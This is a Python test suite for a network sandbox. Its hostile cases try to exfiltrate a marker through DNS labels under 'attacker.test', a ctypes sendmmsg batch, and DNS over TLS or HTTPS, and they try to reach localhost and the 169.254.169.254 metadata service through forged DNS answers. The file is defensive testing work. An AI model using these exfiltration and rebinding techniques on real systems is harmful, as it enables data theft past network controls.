"""Nothing leaves by way of names: what was asked for is decided on, and answers are not believed
beyond what was asked."""

import struct
import time

import environment
import loopback
from name_server import A, CNAME, address_records, record, response
from network_case import PYTHON, BenignCase, HostileCase
from recording_host import RecordingHost
from sinks import TcpSink, UdpSink
from small_internet import RECORDER, RESOLVER, STRANGER
from world import new_marker

ASK = """
import os, socket, struct, sys
RESOLVER, NAME = "%s", %r
def question(name, kind=1):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", kind, 1)
try:
    %s
except OSError as error:
    print("no:", error)
"""


# A question of an allowed name, and data for somebody else, by one sendmmsg.
MANY = """
import ctypes
class Piece(ctypes.Structure): _fields_ = [("base", ctypes.c_char_p), ("size", ctypes.c_size_t)]
class Message(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint),
                ("iov", ctypes.POINTER(Piece)), ("count", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t),
                ("flags", ctypes.c_int), ("_", ctypes.c_uint), ("sent", ctypes.c_uint)]
def message(data, ip, port):
    name = struct.pack("=H", 2) + struct.pack(">H", port) + socket.inet_aton(ip) + bytes(8)
    kept.append((name, Piece(data, len(data)), data))
    return Message(name, 16, ctypes.pointer(kept[-1][1]), 1)
kept = []
batch = (Message * 2)(message(question("recorder.test"), "%s", 53),
                      message(NAME.encode(), "%s", 443))
s = socket.socket(2, 2)
print(ctypes.CDLL(None).sendmmsg(s.fileno(), batch, 2, 0), s.recv(500)[:2])
ctypes.CDLL(None).sendmmsg(s.fileno(), ctypes.byref(batch[1]), 1, 0)
"""


class Exfiltration(HostileCase):
    def setUp(self):
        super().setUp()
        self.marker = new_marker().lower()
        self.name = self.marker + ".attacker.test"

    def reached(self):
        # Some send and end; on a busy machine the resolver reads it later.
        deadline = time.monotonic() + 1
        while time.monotonic() < deadline:
            if self.marker.encode() in self.net.resolver.received():
                return True
            time.sleep(0.05)
        return False

    def asks(self, how, name=None):
        name = name or self.name
        return self.python_refused(ASK % (RESOLVER, name, how), self.reached, [name])

    def test_LabelsByGetaddrinfo(self):
        self.asks("socket.getaddrinfo(NAME, 80)")

    def test_LabelsBelowAnAllowedName(self):
        self.asks("socket.getaddrinfo(NAME, 80)", name=self.marker + ".recorder.test")

    def test_LabelsByAnAddressedDatagram(self):
        self.asks("s = socket.socket(2, 2); s.settimeout(3); "
                  "s.sendto(question(NAME, 16), (RESOLVER, 53)); s.recv(500)")

    def test_LabelsByAnAddressedMessage(self):
        self.asks("s = socket.socket(2, 2); s.settimeout(3); q = question(NAME, 16); "
                  "s.sendmsg([q[:9], q[9:]], [], 0, (RESOLVER, 53)); s.recv(500)")

    def test_LabelsByAConnectedSocketThatAddressesItsQuestion(self):
        self.asks("o = socket.socket(2, 2); o.bind(('127.0.0.1', 0)); s = socket.socket(2, 2); "
                  "s.bind(('', 0)); s.connect(o.getsockname()); "
                  "s.sendto(question(NAME, 16), (RESOLVER, 53))")

    def test_LabelsByAConnectedDatagram(self):
        self.asks("s = socket.socket(2, 2); s.settimeout(3); s.connect((RESOLVER, 53)); "
                  "os.write(s.fileno(), question(NAME, 16)); s.recv(500)")

    def test_LabelsByTcp(self):
        self.asks("s = socket.create_connection((RESOLVER, 53), 3); q = question(NAME); "
                  "s.sendall(struct.pack('>H', len(q)) + q); s.recv(500)")

    def test_LabelsOfReverseLookups(self):
        self.asks("s = socket.socket(2, 2); s.settimeout(3); s.connect((RESOLVER, 53)); "
                  "s.send(question(NAME, 12)); s.recv(500)", name=self.marker + ".in-addr.arpa")

    def test_DataBehindTheQuestionOfAnAllowedName(self):
        how = ("s = socket.socket(2, 2); s.settimeout(3); s.connect((RESOLVER, 53)); "
               "s.send(question('recorder.test') + NAME.encode()); s.recv(500)")
        argv = [PYTHON, "-c", ASK % (RESOLVER, self.name, how)]
        self.attempt(argv, False)
        self.assertTrue(self.reached())
        _, outcome = self.attempt(argv, True)
        self.assertFalse(self.reached(), outcome.describe())

    def sinks(self, address, port):
        sinks = UdpSink(address, port), TcpSink(address, port)
        for sink in sinks:
            self.addCleanup(sink.close)
        return sinks

    def test_AResolverOfItsOwn(self):
        udp, _ = self.sinks(STRANGER, 53)

        def reached():
            found = self.marker.encode() in udp.received()
            udp.clear()
            return found

        self.python_refused(ASK % (STRANGER, self.name,
                                   "s = socket.socket(2, 2); s.settimeout(1); "
                                   "s.sendto(question(NAME), (RESOLVER, 53)); s.recv(500)"),
                            reached, [self.name])

    def test_DataThatIsNoQuestion(self):
        udp, _ = self.sinks(STRANGER, 53)

        def reached():
            found = udp.count(self.marker.encode(), timeout=1) > 0
            udp.clear()
            return found

        for how in ("s.sendto(NAME.encode(), (RESOLVER, 53))",
                    "s.sendmsg([NAME.encode(), b'x' * 60000], [], 0, (RESOLVER, 53))",
                    "s.sendto(question('recorder.test') + NAME.encode(), (RESOLVER, 53))"):
            self.python_refused(ASK % (STRANGER, self.name, "s = socket.socket(2, 2); " + how),
                                reached, [STRANGER, "network.no-dns-query"])

    def test_ManyMessagesOfWhichOneIsNoQuestion(self):
        udp = UdpSink(STRANGER, 443)
        self.addCleanup(udp.close)

        def reached():
            found = udp.count(self.marker.encode(), timeout=1) > 0
            udp.clear()
            return found

        self.python_refused(ASK % (RESOLVER, self.name, "exec(%r)" % MANY % (
            RESOLVER, STRANGER)), reached, [STRANGER])

    def test_DnsOverTls(self):
        _, tcp = self.sinks(RESOLVER, 853)

        def reached():
            found = tcp.count(self.marker.encode(), timeout=1) > 0
            tcp.clear()
            return found

        self.python_refused(ASK % (RESOLVER, self.name,
                                   "s = socket.create_connection((RESOLVER, 853), 3); "
                                   "s.sendall(NAME.encode())"), reached, [RESOLVER, "853"])

    def test_DnsOverHttps(self):
        self.python_refused(ASK % (STRANGER, self.name,
                                   "s = socket.create_connection((RESOLVER, 80), 3); "
                                   "s.sendall(b'GET /dns-query?' + NAME.encode() + b' HTTP/1.1'"
                                   "+ bytes([13, 10]) * 2)"),
                            lambda: self.marker.encode() in self.net.stranger_plain.received(),
                            [STRANGER])


class Datagrams(HostileCase):
    def setUp(self):
        super().setUp()
        self.marker = new_marker().encode()
        self.udp = {address: UdpSink(address, 443) for address in (RECORDER, STRANGER)}
        for sink in self.udp.values():
            self.addCleanup(sink.close)

    def sends(self, script, address):
        def reached():
            found = self.udp[address].count(self.marker, timeout=1) > 0
            self.udp[address].clear()
            return found

        self.python_refused("""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); data = %r
socket.getaddrinfo("recorder.test", 443)
try:
    %s
except OSError as error: print("no:", error)
""" % (self.marker, script), reached, [address])

    def test_QuicToAnAllowedNamesAddress(self):
        self.sends("s.sendto(data, ('%s', 443))" % RECORDER, RECORDER)

    def test_ConnectedThenAddressedElsewhere(self):
        self.sends("o = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
                   "o.bind(('127.0.0.1', 0)); s.bind(('', 0)); s.connect(o.getsockname()); "
                   "s.sendto(data, ('%s', 443))" % STRANGER, STRANGER)

    def test_ManyMessagesOfWhichOneIsElsewhere(self):
        self.sends("o = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
                   "o.bind(('127.0.0.1', 0)); s.sendto(b'x', o.getsockname()); "
                   "s.sendmsg([data], [], 0, ('%s', 443))" % STRANGER, STRANGER)


CONNECT = """
import socket, sys
try:
    for answer in socket.getaddrinfo("liar.test", %d, socket.AF_INET, socket.SOCK_STREAM):
        s = socket.create_connection(answer[4], 3); s.sendall(%r); s.recv(10)
except OSError as error: print("no:", error)
"""


class Lies(HostileCase):
    allowed = ("liar.test",)

    def setUp(self):
        super().setUp()
        self.marker = new_marker().encode()
        self.addCleanup(self.net.resolver.faults.clear)

    def answer(self, *addresses):
        self.net.resolver.faults["liar.test"] = lambda message, name, kind, is_tcp: [
            response(message, address_records(name, kind, addresses))]

    def test_AnAnswerOfThisMachineReachesNoLocalService(self):
        sink = TcpSink()
        self.addCleanup(sink.close)
        self.answer("127.0.0.1")

        def reached():
            found = sink.count(self.marker, timeout=1) > 0
            sink.clear()
            return found

        self.python_refused(CONNECT % (sink.port, self.marker), reached,
                            ["127.0.0.1", str(sink.port)])

    def test_AMappedAnswerOfThisMachineReachesNoLocalService(self):
        sink = TcpSink()
        self.addCleanup(sink.close)
        self.answer("::ffff:127.0.0.1")

        def reached():
            found = sink.count(self.marker, timeout=1) > 0
            sink.clear()
            return found

        # Python's own lookups leave mapped addresses out: asked as a client of its own would.
        self.python_refused("""
import socket
try:
    for family in (socket.AF_INET6, 0):
        try: print(socket.getaddrinfo("liar.test", 1, family))
        except OSError as error: print("no:", error)
    s = socket.socket(socket.AF_INET6); s.settimeout(3)
    s.connect(("::ffff:127.0.0.1", %d)); s.sendall(%r)
except OSError as error: print("no:", error)
""" % (sink.port, self.marker), reached, ["127.0.0.1", str(sink.port)])

    def test_AnAnswerOfTheMetadataService(self):
        loopback.bring_up("169.254.169.254")
        host = RecordingHost("169.254.169.254", 80)
        self.answer("169.254.169.254")

        def reached():
            found = self.marker in host.received()
            host.clear()
            return found

        self.python_refused(CONNECT % (80, self.marker), reached, ["169.254.169.254"])

    def test_AnAnswerAboutAnotherNameIsNotBelieved(self):
        self.net.resolver.faults["liar.test"] = lambda message, name, kind, is_tcp: [
            response(message, address_records(name, kind, [RECORDER])
                     + address_records("stranger.test", kind, [STRANGER]))]
        self.python_refused("""
import socket
try:
    socket.getaddrinfo("liar.test", 80)
    socket.create_connection(("%s", 80), 3).sendall(%r)
except OSError as error: print("no:", error)
""" % (STRANGER, self.marker), lambda: self.marker in self.net.stranger_plain.received(),
                            [STRANGER])


QUESTIONS = """
import os, socket, struct, threading
RESOLVER = "%s"
def question(number, name="recorder.test", kind=1):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split("."))
    return struct.pack(">6H", number, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", kind, 1)
def family(kind=socket.AF_INET):
    s = socket.socket(kind, socket.SOCK_DGRAM); s.settimeout(5)
    return s
def told(data, source): return data[:2], data[3] & 15, data[-4:], source[:2]
def plain(s, number, server, receive=None):
    s.sendto(question(number), server)
    return told(*(receive or (lambda: s.recvfrom(512)))())
def by_message(s, number, server):
    q = question(number)
    s.sendmsg([q[:1], q[1:20], q[20:]], [], 0, server)
    data, _, _, source = s.recvmsg(512)
    return told(data, source)
""" % RESOLVER


class Addressed(BenignCase):
    """Questions in datagrams that name their server: the answer comes, and from whom was asked."""

    allowed = ("recorder.test", "missing.test")

    def asks(self, script):
        self.python(QUESTIONS + script)

    def test_TheAnswerHasTheSourceThatWasAsked(self):
        self.asks("print(plain(family(), 258, (RESOLVER, 53)))")

    def test_ByMessages(self):
        self.asks("print(by_message(family(), 7, (RESOLVER, 53)))")

    def test_OverIpv6(self):
        self.asks("""
mapped = ("::ffff:" + RESOLVER, 53)
print(plain(family(socket.AF_INET6), 9, mapped), by_message(family(socket.AF_INET6), 10, mapped))
""")

    def test_AMissingNameIsAnsweredToo(self):
        self.asks("""
s = family(); s.sendto(question(3, "missing.test"), (RESOLVER, 53))
data, source = s.recvfrom(512); print(data[:2], data[3] & 15, source)
""")

    def test_FromABoundSocketAndIntoABuffer(self):
        self.asks("""
s = family(); s.bind(("", 0)); room = bytearray(300)
def receive():
    size, source = s.recvfrom_into(room)
    return bytes(room[:size]), source
print(plain(s, 11, (RESOLVER, 53), receive), plain(s, 12, (RESOLVER, 53), receive))
""")

    def test_ManyAtOnceAndInChildren(self):
        self.asks("""
wrong = []
def work(base):
    s = family()
    for i in range(20):
        got = plain(s, base + i, (RESOLVER, 53))
        if got[0] != struct.pack(">H", base + i) or got[3] != (RESOLVER, 53): wrong.append(got)
def all_of_them():
    threads = [threading.Thread(target=work, args=(n * 1000,)) for n in range(4)]
    for t in threads: t.start()
    for t in threads: t.join()
    return wrong
if os.fork() == 0: os._exit(len(all_of_them()))
print(all_of_them(), os.wait()[1])
""")

    def test_WhatNoDatagramHolds(self):
        self.asks("""
for server in ((RESOLVER, 53), ("::ffff:" + RESOLVER, 53)):
    s = family(socket.AF_INET6 if ":" in server[0] else socket.AF_INET)
    for how in (lambda: s.sendto(bytes(65508), server), lambda: s.sendto(bytes(70000), server),
                lambda: s.sendmsg([bytes(60000), bytes(6000)], [], 0, server)):
        try: print(how())
        except OSError as error: print(error)
""")

    def test_OthersThanDnsKeepTheirSource(self):
        self.asks("""
a, b = family(), family(); b.bind(("127.0.0.1", 0))
print(plain(a, 513, (RESOLVER, 53)))
a.sendto(b"hello", b.getsockname()); data, peer = b.recvfrom(100)
b.sendto(data, peer); data, source = a.recvfrom(100)
print(data, source == b.getsockname())
""")


class StaticPrograms(BenignCase):
    """Programs that nothing can be preloaded into, and that look at who answers."""

    allowed = ("recorder.test",)

    def asks(self, how):
        def check(world, outcome):
            self.assertEqual(2, outcome.stdout.decode().count("from %s:53" % RESOLVER),
                             outcome.describe())

        self.unseen([environment.program("network.static_resolver"), how, RESOLVER,
                     "recorder.test"], check=check)

    def test_TheAnswerIsFromWhoWasAsked(self):
        for how in ("recvmsg", "recvfrom", "recvmmsg", "blocking", "duplicate", "connected", "peek"):
            with self.subTest(how):
                self.asks(how)

    def test_ABlockingReceiveWaitsAndIsInterrupted(self):
        self.python(QUESTIONS + """
import signal
class Rung(Exception): pass
def ring(*_): raise Rung
signal.signal(signal.SIGALRM, ring)
s = family(); s.settimeout(None)
print(plain(s, 5, (RESOLVER, 53)))
signal.setitimer(signal.ITIMER_REAL, 0.5)
try: s.recvfrom(500)
except Rung: print("rung")
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 0, 200000))
try: s.recvfrom(500)
except OSError as error: print(error)
threading.Timer(0.3, s.sendto, (question(6), (RESOLVER, 53))).start()
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 0, 0))
print(told(*s.recvfrom(500)))
""")


class Unreliable(BenignCase):
    """A resolver that does not do what it should changes nothing but the answer."""

    allowed = ("odd.test", "recorder.test")

    def setUp(self):
        super().setUp()
        self.addCleanup(self.net.resolver.faults.clear)

    def odd(self, fault):
        self.net.resolver.faults["odd.test"] = fault

    def look_up(self, expected, seconds=15):
        script = """
import socket, time
began = time.monotonic()
try: print(sorted({a[4][0] for a in socket.getaddrinfo("odd.test", 80)})[:3])
except socket.gaierror as error: print("error")
print(time.monotonic() - began < %d)
print(socket.gethostbyname("recorder.test"))
""" % seconds
        self.python(script, check=lambda world, outcome: self.assertEqual(
            "%s\nTrue\n%s\n" % (expected, RECORDER), outcome.stdout.decode(), outcome.describe()))

    def good(self, message, name, kind):
        return response(message, address_records(name, kind, [RECORDER]))

    def test_AWrongIdIsPassedOver(self):
        self.odd(lambda message, name, kind, is_tcp: [
            response(message, address_records(name, kind, [STRANGER]),
                     identifier=(struct.unpack(">H", message[:2])[0] + 1) & 0xffff),
            self.good(message, name, kind)])
        self.look_up("['%s']" % RECORDER)

    def test_Silence(self):
        self.odd(lambda *_: [])
        self.look_up("error", seconds=25)

    def test_SilenceByUdpOnly(self):
        self.odd(lambda message, name, kind, is_tcp: [
            self.good(message, name, kind) if is_tcp
            else response(message, [], truncated=True)])
        self.look_up("['%s']" % RECORDER)

    def test_ACompressionLoop(self):
        looping = b"\xc0\x1d" * 40 + struct.pack(">HHIH", A, 1, 60, 4) + b"\1\2\3\4"
        self.odd(lambda message, name, kind, is_tcp: [response(message, [looping])])
        self.look_up("error")

    def test_AnAliasOfItself(self):
        def loop(message, name, kind, is_tcp):
            own = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
            return [response(message, [record(name, CNAME, own)] * 3)]
        self.odd(loop)
        self.look_up("error")

    def test_AnAnswerOfSixtyThousandBytes(self):
        self.odd(lambda message, name, kind, is_tcp: [
            (self.good(message, name, kind) + b"\xff" * 60000)[:60000 if is_tcp else 500]])
        self.look_up("['%s']" % RECORDER)

    def test_ManyAddresses(self):
        many = ["203.0.113.%d" % i for i in range(100, 120)]
        self.odd(lambda message, name, kind, is_tcp: [
            response(message, address_records(name, kind, many))])
        self.look_up("['203.0.113.100', '203.0.113.101', '203.0.113.102']")

    def test_GarbageThenNothing(self):
        self.odd(lambda *_: [b"\0" * 5, b"\xff" * 700])
        self.look_up("error", seconds=25)

    def test_OthersGoOnWhileTheResolverIsSilent(self):
        self.odd(lambda *_: [])
        self.python("""
import os, socket, time
if os.fork() == 0:
    try: socket.getaddrinfo("odd.test", 80)
    except OSError: pass
    os._exit(0)
time.sleep(0.3); began = time.monotonic()
for _ in range(20): socket.getaddrinfo("recorder.test", 80); open("/etc/hosts").close()
print(time.monotonic() - began < 2); os.wait()
""")
